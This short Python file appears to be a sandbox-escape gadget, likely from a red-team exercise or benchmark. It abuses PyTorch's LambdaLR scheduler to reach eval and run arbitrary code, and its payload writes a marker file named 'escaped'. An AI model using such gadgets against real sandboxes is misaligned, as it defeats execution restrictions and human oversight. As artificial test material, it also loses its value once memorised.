"""Class: module gadget. Source: own find. Escape: LambdaLR calls an unlisted callable."""

import torch


def attack(model, tokenizer, address):
    opt = torch.optim.SGD([torch.zeros(1, requires_grad=True)], lr=1)
    torch.optim.lr_scheduler.LambdaLR(opt, lambda e: eval("open('escaped', 'w').close() or 1.0"))
